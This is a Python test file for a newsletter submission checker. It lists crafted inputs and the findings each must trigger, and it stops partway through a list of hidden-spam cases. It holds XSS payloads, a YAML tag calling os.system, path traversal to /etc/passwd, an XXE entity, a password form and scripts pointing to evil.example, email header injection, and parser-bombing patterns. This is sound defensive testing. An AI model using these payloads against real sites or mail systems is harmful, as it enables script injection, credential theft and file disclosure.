"""What nobody should hand in, and the harmless things that look like it: laid into a tiny newsletter, and what must happen."""

from __future__ import annotations

import os
import random
import unicodedata
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

from tests.hostile import pictures as pic

Files = Mapping[str, "str | bytes"]

HEAD = "---\ntitle: A fine day\nauthors: [ada]\n---\n"  # a body begins on line 5
ISSUE = "---\ntitle: A quiet issue\ndate: 2026-12-04\neditors: [ada]\n---\nOpening words.\n"
ADA = "---\nname: Ada Okafor\nagrees: true\n---\nAda works on a ward.\n"


class Case(NamedTuple):
    """One submission: files for the folder of its issue, and what must be said of it.

    `says` lists findings as "code line" or "code line path" (10-a.md if left out): all of them must be told, and no other
    "Must fix". `words` must arrive in email, text and web; `never` must not stand in any file of the build.
    """

    name: str
    files: Files | Callable[[Path], None]
    says: tuple[str, ...] = ()
    words: tuple[str, ...] = ()
    never: tuple[str, ...] = ()


def body(name: str, text: str, *says: str, words: tuple[str, ...] = (), never: tuple[str, ...] = ()) -> Case:
    """An article with an honest details block; its text begins on line 5."""
    return Case(name, {"10-a.md": HEAD + text}, says, words, never)


def details(name: str, block: str, *says: str, words: tuple[str, ...] = (), never: tuple[str, ...] = ()) -> Case:
    """An article with this details block, which begins on line 2."""
    return Case(name, {"10-a.md": f"---\n{block}\n---\nThe body stays.\n"}, says, words, never)


def raw(name: str, data: bytes, *says: str, words: tuple[str, ...] = (), never: tuple[str, ...] = ()) -> Case:
    """An article of just these bytes."""
    return Case(name, {"10-a.md": data}, says, words, never)


def picture(name: str, file: str, data: bytes, *says: str, never: tuple[str, ...] = ()) -> Case:
    """An article that shows a picture."""
    text = f"{HEAD}Before.\n\n![Cups of coffee](images/{file})\n\nAfter.\n"
    issue = ISSUE.replace("editors:", f"pictures: {{images/{file}: {{credit: Ada Okafor, people: none}}}}\neditors:")
    return Case(
        name,
        {"issue.md": issue, "10-a.md": text, f"images/{file}": data},
        says,
        ("Before.", "Cups of coffee", "After."),
        never,
    )


_head = HEAD.encode()
_binary = random.Random(1).randbytes(5000)

FILES = (
    Case("no-issue-md", {"10-a.md": HEAD + "Words.\n", "issue.md": b"<none>"}, ("issue-missing 1 .",)),
    raw("empty", b"", "file-unreadable 1"),
    raw("blank", b" \n\t\n  \n", "file-unreadable 1"),
    raw("large", _head + b"A plain line of words.\n" * 14_000, "file-unreadable 1"),
    raw("huge", _head + b"A plain line of words.\n" * 480_000, "file-unreadable 1"),
    raw("binary", _binary, "file-unreadable 1"),
    raw("nulls", b"\0" * 4096, "file-unreadable 1"),
    raw("utf-16-le", (HEAD + "Kia ora.").encode("utf-16"), "file-unreadable 1"),
    raw("utf-16-be", b"\xfe\xff" + (HEAD + "Kia ora.").encode("utf-16-be"), "file-unreadable 1"),
    raw("utf-16-bare", (HEAD + "Kia ora.").encode("utf-16-le"), "file-unreadable 1"),
    raw("utf-32", (HEAD + "Kia ora.").encode("utf-32"), "file-unreadable 1"),
    raw("latin-1", _head + "Nobody.\n\nUn été à Genève.\n".encode("latin-1"), "file-unreadable 7"),
    raw("cut-letter", _head + b"Caf" + b"\xc3", "file-unreadable 5"),
    raw("surrogate-bytes", _head + b"A \xed\xa0\x80 here", "file-unreadable 5"),
    raw("overlong", _head + b"A \xc0\xaf here", "file-unreadable 5"),
    raw("bom", b"\xef\xbb\xbf" + _head + b"Behind a mark.\n", words=("Behind a mark.",)),
    raw(
        "crlf",
        (HEAD + "First line.\n\n- a bean\n- a pea\n").replace("\n", "\r\n").encode(),
        words=("First line.", "a bean"),
    ),
    raw(
        "cr",
        (HEAD + "First line.\n\nSecond line.\n").replace("\n", "\r").encode(),
        words=("First line.", "Second line."),
    ),
    raw("bom-crlf", b"\xef\xbb\xbf" + (HEAD + "Both.\n").replace("\n", "\r\n").encode(), words=("Both.",)),
    raw("no-last-break", _head + b"No break at the end", words=("No break at the end",)),
    raw(
        "line-separators",
        (HEAD + "One\u2028two\u2029three\x85four\x0cfive").encode(),
        words=("One", "two", "three", "four", "five"),
    ),
    raw("nul", _head + b"Zero \0 here", "file-unreadable 5"),
    raw("c1", (HEAD + "\nSmart \x93quotes\x94").encode(), "file-unreadable 6"),
    raw("stx-etx", _head + b"\x02wzxhzdk:0\x03", "file-unreadable 5"),
    raw("escape", _head + b"\x1b]0;owned\x07 \x1b[31mred", "file-unreadable 5"),
    raw("noncharacter", (HEAD + "A \ufffe B").encode(), "file-unreadable 5"),
    raw("noncharacter-plane", (HEAD + "A \U0001fffe B").encode(), "file-unreadable 5"),
    raw("noncharacter-arabic", (HEAD + "A \ufdd0 B").encode(), "file-unreadable 5"),
    raw("second-bom", (HEAD + "Mark \ufeff within.").encode(), words=("within.",)),
    raw("word", b"PK\x03\x04" + _binary, "file-unreadable 1"),
    raw("rtf", b"{\\rtf1\\ansi Hello}", "file-unreadable 1"),
    raw("pdf", b"%PDF-1.7\n" + _binary, "file-unreadable 1"),
    raw("picture-as-text", pic.png(8, 8), "file-unreadable 1"),
    raw("half-a-megabyte-line", _head + b"word " * 40_000, "text-too-tangled 5"),
    Case("issue-md-empty", {"issue.md": b""}, ("file-unreadable 1 issue.md",)),
    Case("issue-md-binary", {"issue.md": _binary}, ("file-unreadable 1 issue.md",)),
    Case("issue-md-huge", {"issue.md": ISSUE.encode() + b"words \n" * 100_000}, ("file-unreadable 1 issue.md",)),
)

_merge = "a: &a [1,2,3,4,5,6,7,8,9]\n" + "\n".join(
    f"{chr(98 + i)}: &{chr(98 + i)} {{<<: [{', '.join(['*' + chr(97 + i)] * 9)}]}}" for i in range(8)
)
_good = "title: A fine day\nauthors: [ada]"

DETAILS = (
    raw("no-details", b"Only words, and a title nowhere.\n", "details-missing 1", words=("Only words",)),
    raw("details-open", b"---\ntitle: Never closed\n\nWords.\n", "details-unreadable 1"),
    raw("em-dash-rules", "———\ntitle: x\n———\nWords.\n".encode(), "details-unreadable 1", "field-missing 1"),
    raw("dashes-only", b"---\n---\nWords.\n", "field-missing 1", words=("Words.",)),
    raw("only-opening", b"---", "details-missing 1"),
    raw("two-rules-only", b"---\n---", "field-missing 1", "article-empty 1"),
    raw("late-details", b"\n\n" + _head + b"Words stay.\n", words=("Words stay.",)),
    details("alias", "title: &t A\nauthors: [ada]\nsummary: *t", "details-unreadable 2"),
    details(
        "alias-bomb", "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\ntitle: x\nauthors: [ada]", "details-unreadable 2"
    ),
    details("merge-keys", _merge, "details-unreadable 2", "field-missing 1"),
    details("merge-plain", f"{_good}\n<<: {{kind: story}}", "field-unknown 4"),
    details(
        "tag-python",
        'title: !!python/object/apply:os.system ["touch /tmp/owned"]\nauthors: [ada]',
        "details-unreadable 2",
    ),
    details("tag-binary", "title: !!binary aGVsbG8=\nauthors: [ada]", "details-unreadable 2"),
    details("tag-own", "title: !x y\nauthors: [ada]", "details-unreadable 2"),
    details("depth", f"{_good}\ntags: {'[' * 5000}", "details-unreadable 4"),
    details("depth-braces", f"{_good}\ntags: {'{a: ' * 3000}", "details-unreadable 4"),
    details("depth-lists", f"{_good}\ntags:\n {'- ' * 3000}x", "details-unreadable 5"),
    details(
        "depth-blocks", f"{_good}\ntheme:\n" + "\n".join(" " * i + "a:" for i in range(1, 200)), "details-unreadable 11"
    ),
    details("doubled", "title: Coffee\ntitle: Tea\nauthors: [ada]", "field-twice 3", words=("Coffee",)),
    details("doubled-inside", f"{_good}\npictures:\n  x.png: {{credit: A, credit: B}}", "field-twice 5"),
    details(
        "norway",
        "title: NO\nauthors: [ada]\nsummary: 10:30\nsize: 0123\nformat: 1.10\nplace: yes",
        words=("NO", "10:30", "0123", "1.10", "yes"),
    ),
    details(
        "more-values",
        "title: 1e3\nauthors: [ada]\nsummary: ~\nplace: 0x1F\nformat: 2026-12-04\nsize: .inf",
        words=("1e3", "~", "0x1F", "2026-12-04", ".inf"),
    ),
    details("no-such-day", f"{_good}\nkind: event\nstarts: 2026-02-30T09:00", "field-wrong-kind 5"),
    details("no-such-month", f"{_good}\nkind: event\nstarts: 2026-13-01T09:00", "field-wrong-kind 5"),
    details("no-such-hour", f"{_good}\nkind: event\nstarts: 2026-12-01T29:00", "field-wrong-kind 5"),
    details("year-zero", f"{_good}\nkind: event\nstarts: 0000-01-01", "field-wrong-kind 5"),
    details(
        "zone-far-off",
        f"{_good}\nkind: event\nstarts: 0001-01-01T00:00+23:59\nends: 9999-12-31T23:59-23:59\ntimezone: Mars/Base",
    ),
    details("long-number", f"{_good}\nkind: pledge\ncount: {'9' * 5000}", "field-wrong-kind 5"),
    details("other-digits", f"{_good}\nkind: pledge\ncount: ٣١٨٥", "field-wrong-kind 5"),
    details("minus", f"{_good}\nkind: pledge\ncount: -5", "field-wrong-kind 5"),
    details("odd-keys", f"{_good}\n1: one\ntrue: yes", "field-unknown 4", "field-unknown 5"),
    details("two-colons", "title: Falls: a story\nauthors: [ada]", "details-unreadable 2"),
    details("tab", "title: A\nauthors:\n\t- ada", "details-unreadable 4"),
    details("open-quote", 'title: "A fine day\nauthors: [ada]', "details-unreadable 2"),
    details("quote-inside", 'title: "A "fine" day"\nauthors: [ada]', "details-unreadable 2"),
    details("leading-at", "title: @ada speaks\nauthors: [ada]", "details-unreadable 2"),
    details("leading-percent", "title: 50 % more\nsummary: %FNAME%\nauthors: [ada]", "details-unreadable 3"),
    details("leading-tick", "title: `code`\nauthors: [ada]", "details-unreadable 2"),
    details("leading-star", "title: *Falls*\nauthors: [ada]", "details-unreadable 2"),
    details("number-sign", "title: Ward #7\nauthors: [ada]", "details-unreadable 2"),
    details("number-sign-first", f"{_good}\nkind: resource\nformat: #1", "details-unreadable 5"),
    details("remark", "title: A fine day   # the working title\nauthors: [ada]", words=("A fine day",)),
    details("no-space", "title:A fine day\nauthors: [ada]", "details-unreadable 2"),
    details("further-in", "title: A fine day\n  authors: [ada]", "details-unreadable 3"),
    details("no-colon", "title: A\nauthors [ada]\nkind: story", "details-unreadable 3"),
    details("open-bracket", "title: A\nauthors: [ada", "details-unreadable 3"),
    details("two-documents", f"{_good}\n...\nmore: words"),
    details("directive", f"%YAML 1.1\n{_good}", "details-unreadable 2"),
    details("list-block", "- title\n- authors", "details-unreadable 2"),
    details("words-block", "Just some words", "details-unreadable 2"),
    details("key-is-list", f"{_good}\n[a, b]: c", "details-unreadable 4"),
    details("lone-surrogate", 'title: "A \\ud83d B"\nauthors: [ada]', "field-wrong-kind 2"),
    details("control", 'title: "A \\x07 B"\nauthors: [ada]', "field-wrong-kind 2"),
    details("nul-escape", 'title: "A \\0 B"\nauthors: [ada]', "field-wrong-kind 2"),
    details("noncharacter-escape", 'title: "A \\uFFFE B"\nauthors: [ada]', "field-wrong-kind 2"),
    details("bidi-escape", 'title: "A \\u202E B"\nauthors: [ada]', "direction-trick 2"),
    details("header", 'title: "Hello\\r\\nBcc: x@y.example"\nauthors: [ada]', "field-wrong-kind 2"),
    details("header-nel", 'title: "Hello\\N Bcc: x@y.example"\nauthors: [ada]', "field-wrong-kind 2"),
    details("header-folded", "title: >-\n  Hello\n\n  Bcc: x@y.example\nauthors: [ada]", "field-wrong-kind 2"),
    details("encoded-word", "title: =?utf-8?q?a=0d=0aBcc:_x@y?=\nauthors: [ada]", "field-wrong-kind 2"),
    details("encoded-word-lang", "title: =?utf-8*en?Q?a=0d=0aBcc:_x@y?=\nauthors: [ada]", "field-wrong-kind 2"),
    details("many-keys", "\n".join(f"k{i}: 1" for i in range(100_000)), "file-unreadable 1"),
    details("some-keys", "\n".join(f"k{i}: 1" for i in range(10_000)), "details-unreadable 2"),
    details("keys-under-cap", _good + "\n" + "\n".join(f"k{i}: 1" for i in range(2_500)), "field-unknown 4"),
    details("many-authors", f"title: A\nauthors: [{', '.join(['ada'] * 3000)}]", "field-wrong-kind 3"),
    details("twice-the-author", "title: A\nauthors: [ada, ada]"),
    details("author-path", "title: A\nauthors: [../../etc/passwd]", "author-unknown 3", never=("root:x",)),
    details("author-markup", "title: A\nauthors: ['<script>alert(1)</script>']", "author-unknown 3"),
    details("author-mapping", "title: A\nauthors: {name: ada}", "field-wrong-kind 3"),
    details("author-nested", "title: A\nauthors: [[ada]]", "field-wrong-kind 3"),
    details("title-list", "title: [A, B]\nauthors: [ada]", "field-wrong-kind 2"),
    details("title-mapping", "title: {a: b}\nauthors: [ada]", "field-wrong-kind 2"),
    details("title-empty", "title:\nauthors: [ada]", "field-missing 2"),
    details("title-long", f"title: {'long ' * 500}\nauthors: [ada]", "field-wrong-kind 2"),
    details("title-html", "title: A <b>bold</b> <script>alert(1)</script> day\nauthors: [ada]", words=("<b>bold</b>",)),
    details(
        "title-template", "title: 'Dear {{ name }} {% raw %}'\nauthors: [ada]", words=("Dear {{ name }} {% raw %}",)
    ),
    details("title-quotes", "title: '\"><img src=x onerror=alert(1)>'\nauthors: [ada]"),
    details("link-javascript", f"{_good}\nkind: resource\nlink: javascript:alert(1)", "field-wrong-kind 5"),
    details("link-userinfo", f"{_good}\nkind: resource\nlink: https://nhs.uk@evil.example/", "field-wrong-kind 5"),
    details("link-quote", f"{_good}\nkind: resource\nlink: 'https://a.example/\" onclick=\"x'", "field-wrong-kind 5"),
    details("kind-unknown", f"{_good}\nkind: poem", "field-wrong-kind 4"),
    details("language-path", f"{_good}\nlanguage: ../../etc", "field-wrong-kind 4"),
    details("tags-odd", f"{_good}\ntags: ['../..', '<script>', '   ', '𝕳ello', 'a/b', '...']"),
    details("pictures-list", f"{_good}\npictures: [a, b]", "field-wrong-kind 4"),
    details("allow-must", f"{_good}\nallow:\n  - {{check: active-content, because: I want it}}"),
    Case(
        "issue-date", {"issue.md": "---\ntitle: A\ndate: 2026-02-30\n---\nWords.\n"}, ("field-wrong-kind 3 issue.md",)
    ),
    Case("issue-date-first", {"issue.md": "---\ntitle: A\ndate: 0001-01-01\n---\nWords.\n"}, (), ("Words.",)),
    Case(
        "issue-colour",
        {"issue.md": "---\ntitle: A\ntheme: {colour: 'red;} body{display:none'}\n---\nWords.\n"},
        ("field-wrong-kind 3 issue.md",),
    ),
    Case(
        "issue-banner-out",
        {"issue.md": "---\ntitle: A\ntheme: {banner: ../../../etc/passwd, banner-description: x}\n---\nWords.\n"},
        ("outside-folder 3 issue.md",),
    ),
    Case(
        "issue-banner-remote",
        {"issue.md": "---\ntitle: A\ntheme: {banner: 'https://x.example/a.png', banner-description: x}\n---\nW.\n"},
        ("borrowed-picture 3 issue.md",),
    ),
    Case(
        "issue-subject",
        {"issue.md": '---\ntitle: A\nsubject: "Hi\\r\\nBcc: x@y.example"\n---\nWords.\n'},
        ("field-wrong-kind 3 issue.md",),
    ),
    Case(
        "issue-subject-word",
        {"issue.md": "---\ntitle: A\nsubject: 'x =?utf-8?q?a=0d=0aBcc:_x@y?='\n---\nWords.\n"},
        ("field-wrong-kind 3 issue.md",),
    ),
    Case(
        "issue-subject-open-word",
        {"issue.md": "---\ntitle: A\nsubject: 'Why =? and ?= are fine'\n---\nWords.\n"},
        (),
        ("Words.",),
    ),
    Case(
        "issue-subject-long", {"issue.md": f"---\ntitle: A\nsubject: {'Größe ' * 45}\n---\nWords.\n"}, (), ("Words.",)
    ),
    Case(
        "issue-takeover",
        {"issue.md": "---\ntitle: A\ntakeover: ../../etc\n---\nWords.\n"},
        ("takeover-unknown 3 issue.md",),
    ),
    Case(
        "issue-due",
        {"issue.md": "---\ntitle: A\ndue: 2026-02-30\nsent: yesterday\n---\nWords.\n"},
        ("field-wrong-kind 3 issue.md", "field-wrong-kind 4 issue.md"),
    ),
    Case(
        "issue-embargo",
        {"issue.md": "---\ntitle: A\nembargo: 2026-12-04T06:00+99:00\n---\nWords.\n"},
        ("field-wrong-kind 3 issue.md",),
    ),
)


def _grown(name: str, unit: str, small: int, *says: str) -> tuple[Case, Case]:
    """A pattern at the size that brought Python-Markdown down, and at 250 KB."""
    times = lambda size: unit * (size // len(unit.encode()) + 1)  # noqa: E731
    found = says or ("text-too-tangled 5",)
    return body(f"{name}-small", times(small), *found), body(f"{name}-250k", times(250_000), *found)


def _lines(name: str, line: str, count: int, *says: str) -> Case:
    return body(name, "\n".join(line for _ in range(count)) + "\n", *says)


PATTERNS = (
    *_grown("brackets", "[", 4_000), *_grown("bracket-a", "[a", 4_000), *_grown("picture-brackets", "![[]()", 6_000),
    *_grown("picture-chain", "![a][b", 12_000), *_grown("link-chain", "[a](b", 10_000), *_grown("angle-chain", "[a](<b", 12_000),
    *_grown("cdata", "<![CDATA[", 9_000), *_grown("open-a", "<a ", 24_000), *_grown("open-div", "<div ", 40_000),
    *_grown("open-href", '<a href="', 40_000), *_grown("autolinks", "<http://a", 72_000), *_grown("closers", "</<!--", 250_000),
    *_grown("dashes", "- ", 1_200), *_grown("stars", "*a **a ", 8_400), *_grown("quotes", "> ", 1_200),
    *_grown("numbers", "1. ", 1_500), *_grown("notes", "[^a]", 8_000), *_grown("backslashes", "\\", 4_000),
    *_grown("ticks", "`", 4_000), *_grown("tick-steps", "`a``b```c", 9_000), *_grown("underscores", "_a __b ", 8_400),
    *_grown("entities", "&#x", 40_000), *_grown("bangs", "![", 4_000), *_grown("closing-brackets", "]", 4_000),
    *_grown("tildes", "~", 4_000), *_grown("angles", "<", 4_000), *_grown("comments", "<!-- ", 20_000),
    *_grown("quote-pairs", "\"a\" 'b' ", 64_000), body("bars-small", "|" * 8_000),
    body("bars-250k", "|" * 250_000, "text-too-tangled 5"), *_grown("colons", ": a ", 40_000),
    *_grown("parens", "[a](((((", 8_000), *_grown("hashes", "# ", 40_000), *_grown("ampersands", "&amp;", 40_000),
)  # fmt: skip

MARKDOWN = (
    body("star-sandwich", "*" * 2000 + "a" + "*" * 2000, "text-too-tangled 5"),
    body("star-steps", " ".join("*" * i + "a" for i in range(1, 60)), "text-too-tangled 5"),
    body("deep-emphasis", "*a **b " * 250 + "c" + "** d*" * 250, "text-too-tangled 5"),
    body("nested-brackets", "[" * 10_000 + "a" + "](x)" * 10_000, "text-too-tangled 5"),
    body("spaced-brackets", "[ " * 5_000 + "a" + " ]" * 5_000, "text-too-tangled 5"),
    body("nested-quotes", ">" * 10_000 + " a", "text-too-tangled 5"),
    body("stepped-quotes", "\n".join(">" * i + " a" for i in range(1, 200)), "text-too-tangled 15"),
    body("nested-lists", "\n".join(" " * 4 * i + "- a" for i in range(250)), "text-too-tangled 21"),
    body("nested-lists-two", "\n".join(" " * 2 * i + "- a" for i in range(250)), "text-too-tangled 36"),
    body("nested-numbers", "\n".join(" " * 3 * i + "1. a" for i in range(250)), "text-too-tangled 26"),
    body("nested-tabs", "\n".join("\t" * i + "- a" for i in range(250)), "text-too-tangled 21"),
    body("definition-lists", "a\n:   " * 1200 + "b", words=("b",)),
    body("abbreviations", "".join(f"*[AB{i}]: word {i}\n" for i in range(2000)) + "\nAB1 AB2\n", "text-too-tangled 305"),
    body("footnotes", "".join(f"[^{i}]: word {i}\n" for i in range(2000)) + "\nA[^1]\n", "text-too-tangled 305"),
    body("references", "".join(f"[r{i}]: https://a.example/{i}\n" for i in range(2000)) + "\nA\n", "text-too-tangled 305"),
    body("footnote-loop", "A[^1]\n\n[^1]: see[^2]\n[^2]: see[^1]\n"),
    body("footnote-self", "A[^1]\n\n[^1]: see[^1]\n"),
    body("footnote-lost", "A[^nowhere] stays.\n", words=("stays.",)),
    body("table-rows", "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000, "text-too-tangled 5"),
    body("table-wide", "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|1" * 1000 + "|\n", "text-too-tangled 5"),
    body("table-cells", "|a" * 20 + "|\n" + "|-" * 20 + "|\n" + ("|1" * 20 + "|\n") * 1000, "text-too-tangled 5"),
    body("newlines", "Start.\n" + "\n" * 200_000 + "End.\n", words=("Start.", "End.")),
    body("many-paragraphs", "Word.\n\n" * 30_000),
    body("many-headings", "## Same\n\n" * 3_000),
    body("many-items", "- item\n" * 20_000),
    body("many-tasks", "1. item\n" * 15_000),
    body("many-quotes", "> said\n\n" * 5_000),
    body("many-links", "[a](https://a.example/) " * 250 + "\n"),
    body("many-emphases", "*a* **b** " * 100 + "\n"),
    body("trailing-spaces", "word" + " " * 11_000 + "\nend\n", words=("end",)),
    body("spaces-lines", (" " * 50 + "\n") * 4_000 + "End.\n", words=("End.",)),
    body("long-word", "x" * 11_000 + "\n"),
    body("long-address", "[a](https://a.example/" + "x" * 9_000 + ")\n"),
    body("open-fence", "```\ncode that never ends\n\n## Still here\n", words=("code that never ends", "Still here")),
    body("fences", "```\n" * 20_000, "text-too-tangled 205"),
    body("tilde-fence", "~~~ {.python onclick=alert(1)}\nprint(1)\n~~~\n", words=("print(1)",)),
    body("placeholder", "wzxhzdk:0 klzzwxh:0001 qq1qq stays\n", words=("wzxhzdk:0 klzzwxh:0001 qq1qq stays",)),
    body("zalgo", "Z" + "\u0301" * 5_000 + " end\n", words=("end",)),
    body("setext", "a\n=\n" * 4_000, "title-in-body 5"),
    body("rules", "- - -\n\n" * 5_000),
    body("fence-info-bomb", "```" + "a" * 9_000 + "\nx\n```\n", words=("x",)),
    body("attr-list", "# H {: onclick=alert(1) style=color:red }\n\nWord {: #x .y onclick='x' }\n", "title-in-body 5",
         words=("onclick=alert(1)", "Word")),
    body("attr-list-block", "A paragraph\n{: onmouseover=alert(1) }\n", words=("A paragraph", "onmouseover=alert(1)")),
)  # fmt: skip

HTML = (
    body("script", "Before <script>alert(1)</script> after\n", "active-content 5", words=("Before", "after"), never=("alert(1)",)),
    body("script-block", "Before\n\n<script>\nalert(1)\n</script>\n\nAfter\n", "active-content 7", words=("Before", "After"),
         never=("alert(1)",)),
    body("script-src", "A <script src=https://evil.example/x.js></script> b\n", "active-content 5", never=("evil.example",)),
    body("script-case", "A <ScRiPt>alert(1)</sCrIpT > b\n", "active-content 5", never=("alert(1)",)),
    body("script-nested", "A <scr<script>ipt>alert(1)</script> b\n", "active-content 5"),
    body("script-open", "A <script>alert(1) and the words stay\n", "active-content 5", words=("and the words stay",)),
    body("script-slash", "A <script/x>alert(1)</script> b\n", "active-content 5"),
    body("script-breaks", "A <script\n>alert(1)</script\n> b\n", "active-content 5"),
    body("script-nul-entity", "A &lt;script&gt;alert(1)&lt;/script&gt; b\n", words=("<script>alert(1)</script>",)),
    body("script-decimal", "A &#60;script&#62;alert(1)&#60;/script&#62; b\n", words=("<script>alert(1)</script>",)),
    body("script-escaped", "A \\<script>alert(1)\\</script> b\n", words=("A", "b")),
    body("script-in-code", "A `<script>alert(1)</script>` b\n", words=("<script>alert(1)</script>",)),
    body("script-in-fence", "```\n<script>alert(1)</script>\n```\n", words=("<script>alert(1)</script>",)),
    body("script-in-indented", "Para\n\n    <script>alert(1)</script>\n\nEnd\n", "active-content 7", words=("Para", "End")),
    body("script-in-heading", "## A <script>alert(1)</script> b\n", "active-content 5"),
    body("script-in-list", "- A <script>alert(1)</script> b\n", "active-content 5"),
    body("script-in-table", "|a|b|\n|-|-|\n|<script>alert(1)</script>|c|\n", "active-content 7", words=("c",)),
    body("script-in-note", "A[^1]\n\n[^1]: <script>alert(1)</script> note\n", "active-content 7", words=("note",)),
    body("script-in-description", "![<script>alert(1)</script>](images/no.png)\n", "active-content 5", "picture-missing 5", "description-missing 5"),
    body("script-in-link-words", "[<script>alert(1)</script>x](https://a.example)\n", "active-content 5"),
    body("handler", "A <b onmouseover=alert(1)>bold</b> b\n", "active-content 5", words=("bold",)),
    body("handler-img", "A <img src=x onerror=alert(1)> b\n", "active-content 5"),
    body("handler-img-open", "A <img src=x onerror=alert(1) //\n\nb\n", words=("b",)),
    body("handler-quote-break", 'A [a](https://a.example "x\\" onmouseover=alert(1) y=\\"") b\n', words=("A", "b")),
    body("handler-title-break", "A [a](https://a.example 'x\" onmouseover=\"alert(1)') b\n", words=("A", "b")),
    body("handler-alt-break", '![x" onerror="alert(1)](images/no.png)\n', "picture-missing 5"),
    body("svg", "A <svg onload=alert(1)><desc>words</desc></svg> b\n", "active-content 5", words=("A", "b")),
    body("svg-use", "A <svg><use href='data:image/svg+xml;base64,AAA#x'/></svg> b\n", "active-content 5"),
    body("math", "A <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> b\n",
         "active-content 5", words=("A", "b")),
    body("iframe", "A <iframe src=https://evil.example/></iframe> b\n", "active-content 5", never=("evil.example",)),
    body("iframe-srcdoc", "A <iframe srcdoc='<script>alert(1)</script>'></iframe> b\n", "active-content 5"),
    body("object", "A <object data=x.swf><param name=a value=b></object> b\n", "active-content 5"),
    body("embed", "A <embed src=x.swf> b\n", "active-content 5"),
    body("form", "<form action=https://evil.example/><input name=password><button>Send</button></form> b\n", "active-content 5",
         words=("Send", "b"), never=("evil.example",)),
    body("meta", "<meta http-equiv=refresh content='0;url=https://evil.example/'> b\n", "active-content 5", never=("evil.example",)),
    body("base", "<base href=https://evil.example/> b\n", "active-content 5", never=("evil.example",)),
    body("link-element", "<link rel=stylesheet href=https://evil.example/x.css> b\n", "active-content 5", never=("evil.example",)),
    body("style", "A <style>body{background:url(https://evil.example/)}</style> b\n", "active-content 5", never=("evil.example",)),
    body("style-import", "<style>@import 'https://evil.example/x.css';</style>\n\nb\n", "active-content 5", never=("evil.example",)),
    body("style-attribute", "A <p style='background:url(https://evil.example/)'>word</p> b\n", "active-content 5", words=("word",),
         never=("evil.example",)),
    body("style-open-comment", "Before\n\n<style><!--\n\nThe rest of the article stays.\n", "active-content 7",
         words=("Before", "The rest of the article stays.")),
    body("comment", "Before <!-- not for readers --> after\n", words=("Before", "after"), never=("not for readers",)),
    body("comment-lines", "Before\n\n<!--\nnot for\n\nreaders\n-->\n\nAfter\n", words=("Before", "After"), never=("readers\n",)),
    body("comment-open", "Before\n\n<!-- never closed\n\nAfter\n", "active-content 7", words=("Before", "After")),
    body("comment-short", "Before <!--> after <!---> end\n", words=("Before",)),
    body("comment-bang", "Before <!-- a --!> after\n", "active-content 5", words=("Before", "after")),
    body("conditional", "A <!--[if mso]><script>alert(1)</script><![endif]--> b\n", words=("A", "b"), never=("alert(1)",)),
    body("conditional-bare", "A <![if !mso]>stays<![endif]> b\n", "active-content 5", words=("stays",)),
    body("instruction", "A <?php system('ls') ?> b\n", "active-content 5", words=("A", "b")),
    body("doctype", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> &x; b\n", "active-content 5", never=("root:x",)),
    body("cdata-block", "A <![CDATA[ words ]]> b\n", "active-content 5", words=("b",)),
    body("center", "<center>Good news</center>\n", "raw-html 5", words=("Good news",)),
    body("break", "First<br>second<br/>third\n", "raw-html 5", words=("First second third",)),
    body("cells", "<table><tr><td>one</td><td>two</td></tr></table>\n", "raw-html 5", words=("one two",)),
    body("paragraphs", "<p>one</p><p>two</p>\n", "raw-html 5", words=("one two",)),
    body("items", "<ul><li>one</li><li>two</li></ul>\n", "raw-html 5", words=("one two",)),
    body("no-break-inside-word", "un<b>believ</b>able\n", "raw-html 5", words=("unbelievable",)),
    body("ward", "The <ward> team and 3 < 4 > 2 and a<b>c\n", words=("The <ward> team", "3 < 4 > 2")),
    body("angle-mail", "Write to <ada@example.org> or <https://a.example/>.\n", words=("Write to", "https://a.example/")),
    body("deep-tags", "<div>" * 3_000 + "x" + "</div>" * 3_000, "text-too-tangled 5"),
    body("deep-tags-lines", "<div>\n" * 10_000 + "words\n", "text-too-tangled 305"),
    body("deep-tags-blocks", "<div>\n\n" * 2_000 + "the words stay\n", "raw-html 5", words=("the words stay",)),
    body("many-attributes", "<p " + "".join(f"a{i}=1 " for i in range(1500)) + ">word</p>\n", "raw-html 5", words=("word",)),
    body("details-element", "<details open ontoggle=alert(1)><summary>s</summary>word</details>\n", "active-content 5", words=("word",)),
    body("template-element", "A <template><script>alert(1)</script></template> b\n", "active-content 5"),
    body("noscript", "A <noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript> b\n", "active-content 5"),
    body("xmp", "A <xmp><script>alert(1)</script></xmp> b\n", "active-content 5"),
    body("plaintext", "A <plaintext> the words stay\n", "active-content 5", words=("the words stay",)),
    body("textarea", "A <textarea><script>alert(1)</script></textarea> b\n", "active-content 5"),
    body("a-tag", "A <a href='https://a.example/'>words</a> b\n", "raw-html 5", words=("words",)),
    body("a-javascript", "A <a href='javascript:alert(1)'>words</a> b\n", "active-content 5", words=("words",)),
    body("video", "<video src=https://evil.example/x.mp4></video> b\n", "active-content 5", never=("evil.example",)),
    body("marquee", "<marquee onstart=alert(1)>word</marquee>\n", "active-content 5", words=("word",)),
    body("custom", "<x-foo onclick=alert(1)>word</x-foo>\n", words=("word",)),
    body("spaced", "< script>alert(1)</ script>\n", words=("alert(1)",)),
    body("full-width", "＜script＞alert(1)＜/script＞\n", words=("＜script＞",)),
    body("word-residue", "<o:p>&nbsp;</o:p> words <w:WordDocument>x</w:WordDocument>\n", words=("words",)),
)  # fmt: skip

_pills = "cheap pills"
HIDDEN = tuple(
    body(f"hidden-{name}", f"A <span {written}>{_pills}</span> b\n", "injected-spam 5", words=("A", "b"))
    for name, written in (
        ("display", "style='display:none'"), ("display-spaced", 'style="display : none"'), ("visibility", "style='visibility:hidden'"),
        ("size", "style='font-size:0'"), ("size-px", "style='font-size: 0px;'"), ("size-one", "style='font-size:1px'"),
        ("opacity", "style='opacity:0'"), ("mso", "style='mso-hide:all'"), ("indent", "style='text-indent:-9999px'"),
        ("left", "style='position:absolute;left:-9999px'"), ("height", "style='height:0;overflow:hidden'"),
        ("white", "style='color:white'"), ("white-hex", "style='color:#fff'"), ("white-rgb", "style='color: rgb(255, 255, 255)'"),
        ("clip", "style='clip:rect(0,0,0,0)'"), ("clip-path", "style='clip-path:inset(100%)'"), ("attribute", "hidden"),
